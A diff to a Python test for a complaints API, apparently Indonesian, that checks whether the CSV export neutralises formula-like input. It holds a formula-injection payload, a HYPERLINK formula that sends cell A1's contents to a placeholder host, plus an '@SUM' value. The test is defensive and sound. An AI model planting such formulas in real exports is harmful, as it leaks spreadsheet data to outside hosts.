@@ -194,11 +194,12 @@ def test_verify_is_in_the_openapi_contract(client):
 def test_a_reporter_s_words_that_begin_like_a_formula_are_text_in_the_csv(client, login):
     """A spreadsheet opening the auditor's CSV would run "=HYPERLINK(...)" written by a reporter as a formula."""
     formula = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
-    r = client.post(f"{API}/complaints", json=complaint_payload("anonim", pokok_masalah=formula, uraian="@SUM(1+1) uang pendaftaran diminta"))
+    words = "@SUM(1+1) uang pendaftaran diminta"
+    r = client.post(f"{API}/complaints", json=complaint_payload("anonim", pokok_masalah=formula, uraian=words))
     assert r.status_code == 201, r.json
     rows = csv_rows(client, login)
     cells = [cell for row in rows for cell in row]
     assert "'" + formula in cells
-    assert "'@SUM(1+1) uang pendaftaran diminta" in cells
+    assert "'" + words in cells
     assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "\t"))]
     assert formula in [c for row in xlsx_rows(client, login) for c in row]  # the workbook keeps text cells as written
